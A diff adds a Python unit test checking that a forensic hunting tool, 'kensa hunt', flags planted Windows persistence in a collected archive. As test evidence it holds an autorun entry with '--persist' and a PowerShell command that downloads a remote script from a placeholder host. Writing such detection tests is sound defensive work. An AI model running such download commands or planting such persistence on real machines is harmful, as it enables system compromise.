@@ -299,6 +299,26 @@ class WineCollectTest(unittest.TestCase):
             self.assertIn(error["artifact"], ARTIFACTS)
             self.assertTrue(error["error"])
 
+    def test_kensa_hunt_reads_the_archive_and_flags_the_planted_persistence(self):
+        # The hunting side of the same format: `kensa hunt` verifies the zip against its
+        # manifest and runs rules/hunt/windows.yaml over the collector's tables and files.
+        kensa = os.path.join(BINARY_DIR, "bin", "kensa")
+        result = subprocess.run([kensa, "hunt", os.path.join(self.out, self.archive_names[0]), "--format", "json"],
+                                capture_output=True, text=True, timeout=300)
+        self.assertEqual(result.returncode, 0, result.stderr)
+        report = json.loads(result.stdout)
+        self.assertEqual(report["collection"]["manifest"]["collector"]["name"], "kensa-collect-windows")
+        self.assertNotIn("hashMismatches", report["collection"])
+        by_rule = {}
+        for finding in report.get("findings", []):
+            by_rule.setdefault(finding["ruleId"], []).append(finding)
+        self.assertIn("windows_autorun_user_writable", by_rule, (sorted(by_rule), self.zip.read("commands/autoruns.tsv").decode()[:1500]))
+        autorun = by_rule["windows_autorun_user_writable"]
+        self.assertTrue(any("kensa-wine-test.exe --persist" in f["evidence"] for f in autorun), autorun)
+        history = by_rule["windows_powershell_history_download"]
+        self.assertEqual(history[0]["evidence"], "Invoke-WebRequest https://example.invalid/a.ps1 -OutFile a.ps1")
+        self.assertEqual(report["verdict"], "HUNT_VERDICT_COMPROMISED")
+
     def test_the_log_has_a_start_and_done_line_for_every_step(self):
         log = self.zip.read("collector.log").decode()
         for artifact in ARTIFACTS - {"collector_log"}:
